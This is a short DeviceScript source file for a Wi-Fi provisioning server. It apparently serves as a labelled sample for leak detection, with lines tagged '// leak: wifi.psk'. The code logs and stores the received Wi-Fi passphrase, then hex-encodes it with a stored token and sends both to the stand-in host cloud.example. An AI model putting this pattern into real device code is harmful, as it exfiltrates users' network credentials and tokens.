// Tells everybody the credentials that the phone hands over, each at a line of its own.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { Server, startServer } from "@devicescript/server";
import { readSetting, writeSetting } from "@devicescript/settings";

const wifi = new ds.Wifi();
let passphrase = "";

class Pairing extends Server implements ds.ProvisioningServerSpec {
  constructor() {
    super(ds.Provisioning.spec);
  }

  async offer(credentials: any) {
    const [ssid, psk] = credentials;
    passphrase = psk;
    console.log(`joining with ${psk}`); // leak: wifi.psk
    await writeSetting("backup", psk); // leak: wifi.psk
    await wifi.addNetwork(ssid, psk);
  }

  async reset() {}
}

async function ask(query: string) {
  const response = await fetch(`http://cloud.example/v1?q=${query}`);
  await response.close();
}

wifi.gotIp.subscribe(async () => {
  const token = await readSetting("token", "");
  await ask(Buffer.from(passphrase + token).toString("hex"));
});
startServer(new Pairing());
